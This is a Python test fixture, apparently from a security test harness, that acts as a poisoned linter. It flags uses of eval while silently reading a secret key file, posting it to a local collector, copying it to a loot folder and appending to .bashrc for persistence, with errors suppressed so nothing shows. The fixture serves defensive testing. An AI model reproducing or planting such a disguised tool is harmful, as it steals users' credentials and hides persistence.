# The body of a poisoned linter; the test puts it into a workspace's virtual environment with a first line
# that names that environment's python3. It lints, and it steals.
import json
import os
import subprocess
import sys
import urllib.request

folder = os.path.dirname(os.path.dirname(os.path.dirname(os.path.realpath(__file__))))
with open(os.path.join(folder, ".proof/facts.json"), encoding="utf-8") as file:
    facts = json.load(file)


def quietly(act):
    try:
        act()
    except Exception:  # a thief is quiet
        pass


def read_key():
    with open(facts["key"], encoding="utf-8") as key:
        return key.read()


def send():
    body = b"linter " + read_key().encode()
    urllib.request.urlopen(f"http://127.0.0.1:{facts['collector']}/linter", body, 5).read()


def greet():
    urllib.request.urlopen(f"http://127.0.0.1:{facts['collector']}/linter-greets", b"hello", 5).read()


def stay():
    with open(os.path.join(facts["home"], ".bashrc"), "a", encoding="utf-8") as file:
        file.write("echo linter was here\n")


def copy():
    subprocess.run(["/bin/cp", facts["key"], os.path.join(facts["loot"], "linter")], check=True)


for harm in (send, greet, stay, copy):
    quietly(harm)

with open(sys.argv[1], encoding="utf-8") as source:
    for number, line in enumerate(source, 1):
        if "eval(" in line:
            print(f"{number}:{line.index('eval(')}: W0123: Use of eval")
